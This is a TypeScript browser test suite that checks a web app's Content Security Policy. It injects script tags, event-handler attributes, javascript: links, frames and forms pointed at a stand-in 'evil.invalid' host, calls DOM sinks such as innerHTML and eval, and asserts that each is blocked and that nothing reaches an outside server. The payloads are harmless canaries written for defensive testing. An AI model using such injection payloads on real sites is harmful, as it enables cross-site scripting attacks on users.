/** The pages' content policy in a browser: what gets into a page runs nothing and loads nothing. */
import assert from "node:assert/strict";
import type { Page } from "playwright-core";
import { edgeUrl, hydrated, inBrowser, openWindow } from "./_browser.ts";
import { provokedViolations } from "./_violations.ts";

/** Stands for the address of another server. */
const EVIL = "https://evil.invalid";
/** Sets what nothing but an attack sets. */
const RUN = "canary=1";

/** Markup in the server's HTML, and the directive that stops it. */
const MARKUP: readonly (readonly [what: string, markup: string, directive: string])[] = [
  ["a script", `<script>${RUN}</script>`, "script-src-elem"],
  ["a script with a nonce of its own", `<script nonce="AAAA">${RUN}</script>`, "script-src-elem"],
  ["a module", `<script type="module">${RUN}</script>`, "script-src-elem"],
  ["a script of elsewhere", `<script src="${EVIL}/x.js"></script>`, "script-src-elem"],
  ["a script of ours", `<script src="/assets/x.js"></script>`, "script-src-elem"],
  ["a handler of a picture", `<img src="data:," onerror="${RUN}">`, "script-src-attr"],
  ["a handler of a drawing", `<svg onload="${RUN}"></svg>`, "script-src-attr"],
  ["a base address", `<base href="${EVIL}/">`, "base-uri"],
  ["an object", `<object data="${EVIL}/x.swf"></object>`, "object-src"],
  ["an embedded file", `<embed src="${EVIL}/x.swf">`, "object-src"],
  ["a frame", `<iframe src="${EVIL}/"></iframe>`, "frame-src"],
  [
    "a frame with a script",
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    "script-src-elem",
  ],
  ["a style", `<style>body{display:none}</style>`, "style-src-elem"],
  ["a style of elsewhere", `<link rel="stylesheet" href="${EVIL}/x.css">`, "style-src-elem"],
  ["a style of an element", `<p style="position:fixed">x</p>`, "style-src-attr"],
  ["a picture of elsewhere", `<img src="${EVIL}/x.png">`, "img-src"],
];

/** What a person may be brought to press, and the directive that stops it. */
const PRESSED: readonly (readonly [what: string, markup: string, directive: string])[] = [
  ["a link with a script", `<a id="bait" href="javascript:${RUN}">x</a>`, "script-src-elem"],
  ["a button with a handler", `<button id="bait" onclick="${RUN}">x</button>`, "script-src-attr"],
  [
    "a form to elsewhere",
    `<form action="${EVIL}/"><button id="bait">x</button></form>`,
    "form-action",
  ],
];

const TRUSTED_TYPES = "require-trusted-types-for";

/** What a script of the page might do with text that somebody wrote, and the directive that stops it. */
const SINKS: readonly (readonly [what: string, act: () => unknown, directive: string])[] = [
  ["innerHTML", () => document.body.innerHTML = "<img src=x onerror=canary=1>", TRUSTED_TYPES],
  ["outerHTML", () => document.body.outerHTML = "<p></p>", TRUSTED_TYPES],
  [
    "insertAdjacentHTML",
    () => document.body.insertAdjacentHTML("beforeend", "<p></p>"),
    TRUSTED_TYPES,
  ],
  ["document.write", () => document.write("<script>canary=1</script>"), TRUSTED_TYPES],
  ["DOMParser", () => new DOMParser().parseFromString("<p></p>", "text/html"), TRUSTED_TYPES],
  [
    "createContextualFragment",
    () => document.createRange().createContextualFragment("<p></p>"),
    TRUSTED_TYPES,
  ],
  ["srcdoc", () => document.createElement("iframe").srcdoc = "<p></p>", TRUSTED_TYPES],
  ["eval", () => (0, eval)("canary=1"), TRUSTED_TYPES],
  ["new Function", () => new Function("canary=1")(), TRUSTED_TYPES],
  ["setTimeout with text", () => Reflect.apply(setTimeout, null, ["canary=1"]), TRUSTED_TYPES],
  [
    "a script's text",
    () => {
      const script = document.createElement("script");
      script.append("canary=1");
      document.body.append(script);
    },
    TRUSTED_TYPES,
  ],
  [
    "a script's address",
    () => document.createElement("script").src = "https://evil.invalid/x.js",
    TRUSTED_TYPES,
  ],
  [
    "a handler as an attribute",
    () => document.body.setAttribute("onclick", "canary=1"),
    TRUSTED_TYPES,
  ],
  ["a worker's address", () => new Worker("https://evil.invalid/x.js"), TRUSTED_TYPES],
  [
    "a policy of one's own",
    () => {
      const factory = Reflect.get(globalThis, "trustedTypes");
      factory.createPolicy("evil", { createHTML: (text: string) => text });
    },
    "trusted-types",
  ],
  ["an address with a script", () => location.href = "javascript:canary=1", "script-src-elem"],
  ["a request to elsewhere", () => fetch("https://evil.invalid/x"), "connect-src"],
];

for (const path of ["/login", "/docs"]) {
  Deno.test(
    `markup that got into the HTML of ${path} would run and load nothing`,
    inBrowser(async (browser) => {
      const { page } = await openWindow(browser);
      await using other = elsewhere();
      const inject = await injector(page, path);
      for (const [what, markup, directive] of [...MARKUP, ...PRESSED]) {
        await inject(markup.replaceAll(EVIL, other.url));
        if (markup.includes("bait")) await page.locator("#bait").dispatchEvent("click");
        const violations = await provokedViolations(browser);
        assert.deepEqual(violations.map((each) => each.directive), [directive], what);
        assert.equal(await canary(page), undefined, what);
        assert.equal(await page.evaluate(() => document.baseURI), page.url(), what);
      }
      assert.deepEqual(other.asked, []);
    }),
  );
}

Deno.test(
  "a script of the page makes neither HTML nor code of text, and asks nobody else",
  inBrowser(async (browser) => {
    const { page } = await openWindow(browser);
    await using other = elsewhere();
    for (const [what, act, directive] of SINKS) {
      await page.goto("/login");
      await hydrated(page);
      // What a debugger evaluates is free of the policy; what a timer calls is not.
      await page.evaluate(`new Promise((resolve) => {
        setTimeout(${String(act).replaceAll(EVIL, other.url)});
        setTimeout(resolve);
      })`);
      const violations = await provokedViolations(browser);
      assert.deepEqual(violations.map((each) => each.directive), [directive], what);
      assert.equal(await canary(page), undefined, what);
    }
    assert.deepEqual(other.asked, []);
  }),
);

Deno.test(
  "no page of another origin shows one of ours within itself",
  inBrowser(async (browser) => {
    await using other = elsewhere((path) => {
      const target = path === "/own" ? "/framed" : edgeUrl() + path;
      return `<iframe src="${target}"></iframe><object data="${target}"></object>`;
    });
    const { page } = await openWindow(browser);
    /** Addresses of the documents that a page of the other server shows within itself. */
    const framed = async (path: string) => {
      await page.goto(other.url + path);
      return page.frames().slice(1).map((frame) => frame.url()).filter((url) => /^http/.test(url));
    };
    const own = `${other.url}/framed`;
    assert.deepEqual(await framed("/own"), [own, own], "frames are seen");
    for (const path of ["/", "/login", "/app", "/docs"]) {
      assert.deepEqual(await framed(path), [], path);
    }
  }),
);

Deno.test("a test fails when the policy blocks what it did not provoke", async () => {
  const careless = inBrowser(async (browser) => {
    const { page } = await openWindow(browser);
    await page.goto("/login");
    await page.evaluate(() => {
      new Image().src = "https://evil.invalid/x.png";
    });
  });
  await assert.rejects(careless, /img-src/);
});

/** Another server, whose pages are what `htmlOf` makes for their path. */
function elsewhere(htmlOf: (path: string) => string = () => "") {
  const asked: string[] = [];
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen: () => undefined },
    (request) => {
      const { pathname } = new URL(request.url);
      asked.push(pathname);
      const html = pathname === "/framed" ? "<p>Framed</p>" : htmlOf(pathname);
      return new Response(html, { headers: { "content-type": "text/html" } });
    },
  );
  return {
    url: `http://127.0.0.1:${server.addr.port}`,
    /** Every path that somebody asked for. */
    asked,
    [Symbol.asyncDispose]: () => server.shutdown(),
  };
}

/** What an attack has set in the page or a frame of it. */
async function canary(page: Page): Promise<unknown> {
  const set = await Promise.all(
    page.frames().map((frame) => frame.evaluate(() => Reflect.get(globalThis, "canary"))),
  );
  return set.find((value) => value !== undefined);
}

/** Answers what opens the page at `path` as the server sends it, but with markup at the start of the body. */
async function injector(page: Page, path: string): Promise<(markup: string) => Promise<void>> {
  let markup = "";
  await page.route(`**${path}`, async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    assert.ok(html.includes("<body>"));
    await route.fulfill({ response, body: html.replace("<body>", `<body>${markup}`) });
  });
  return async (text) => {
    markup = text;
    await page.goto(path);
  };
}
